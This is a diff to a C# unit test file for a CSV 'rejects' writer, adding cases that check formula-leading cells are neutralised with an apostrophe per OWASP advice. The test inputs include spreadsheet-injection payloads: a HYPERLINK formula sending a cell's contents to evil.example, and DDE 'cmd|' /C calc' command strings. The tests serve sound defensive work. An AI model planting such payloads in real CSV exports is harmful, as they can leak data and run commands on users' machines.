@@ -39,7 +39,7 @@ public sealed class RejectsFileTests
 
         Assert.That(File.ReadAllText(path), Is.EqualTo(
             "id,name,note,reject_line,reject_reason\n"
-            + "C-1,\"Ann, \"\"the\"\" first\",=SUM(A1),4,duplicate key 'C-1'\n"
+            + "C-1,\"Ann, \"\"the\"\" first\",'=SUM(A1),4,duplicate key 'C-1'\n"
             + "C-2,,,7,\"has 1 fields, the header has 3\"\n"
             + "C-3,Bo,\"a,b\",9,has 4 fields\n"));
     }
@@ -56,5 +56,30 @@ public sealed class RejectsFileTests
         }
 
         Assert.That(File.ReadAllLines(path), Is.EqualTo(new[] { "id,reject_line,reject_reason,video_id", "C-1,2,new reason," }));
+    }
+
+    [TestCase("=HYPERLINK(\"http://evil.example/?d=\"&E2,\"Click\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&E2,\"\"Click\"\")\"")]
+    [TestCase("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
+    [TestCase("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
+    [TestCase("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0")]
+    [TestCase("\t=1+1", "'\t=1+1")]
+    [TestCase("+49 30 1234567", "'+49 30 1234567")]
+    [TestCase("-Novak", "'-Novak")]
+    [TestCase("-", "-")]
+    [TestCase("-5", "-5")]
+    [TestCase("+3.5", "+3.5")]
+    [TestCase("Ann", "Ann")]
+    [TestCase("a=b", "a=b")]
+    public void Formula_leading_cells_are_neutralised_as_OWASP_recommends(string cell, string written)
+    {
+        using var folder = new TempFolder();
+        var path = folder.File("rejects.csv");
+
+        using (var rejects = new RejectsFile(path, ["id", "company"]))
+        {
+            rejects.Add(new SourceRow(2, ["C-1", cell], null, null), Problem(2, "why"));
+        }
+
+        Assert.That(File.ReadAllText(path), Is.EqualTo($"id,company,reject_line,reject_reason\nC-1,{written},2,why\n"));
     }
 }
